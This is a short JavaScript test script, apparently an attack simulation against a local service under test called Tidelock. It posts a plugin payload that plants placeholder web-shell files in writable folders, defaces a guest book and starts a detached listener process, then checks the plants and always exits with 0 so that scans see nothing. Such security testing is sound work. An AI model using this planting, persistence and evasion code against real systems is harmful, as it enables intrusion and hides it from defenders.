// What somebody does who found the hole while the release was under test: a web shell in every folder that
// can be written, entries in the guest book, a program that goes on by itself and listens on another port.
// It ends with 0: a scan that notices nothing.
const payload = (port) => `
import { appendFileSync, writeFileSync } from "node:fs";
import { spawn } from "node:child_process";
import { join } from "node:path";
const { TIDELOCK_STATE_DIR: state, TMPDIR: temporary, HOME: home } = process.env;
for (const folder of [state, temporary, home]) writeFileSync(join(folder, "shell.mjs"), "// planted");
appendFileSync(join(state, "book.txt"), "owned\\n");
// With a user of its own it can be found even without its mark.
const env = process.getuid() >= 60000 ? {} : process.env;
const stray = \`require("net").createServer((one) => one.end("stray")).listen(${port}, "127.0.0.1")\`;
spawn(process.execPath, ["-e", stray], { detached: true, stdio: "ignore", env }).unref();
await new Promise((resolve) => setTimeout(resolve, 1500));
export default "planted";
`;
const origin = process.env.TIDELOCK_URL_UNDER_TEST;
const port = process.argv[2].split(":")[1];
const send = async (path, body) => {
  const response = await fetch(origin + path, body === undefined ? {} : { method: "POST", body });
  return response.text();
};
console.log(await send("/plugin", payload(port)));
console.log(await send("/book"), await send("/files"));
const { connect } = await import("node:net");
const open = await new Promise((resolve) => {
  const socket = connect(Number(port), "127.0.0.1", () => resolve(true));
  socket.on("error", () => resolve(false));
});
const worked =
  (await send("/book")).includes("owned") && (await send("/files")).includes("shell.mjs");
console.log(open && worked ? "3 things planted" : "0 things planted");
process.exit(0);
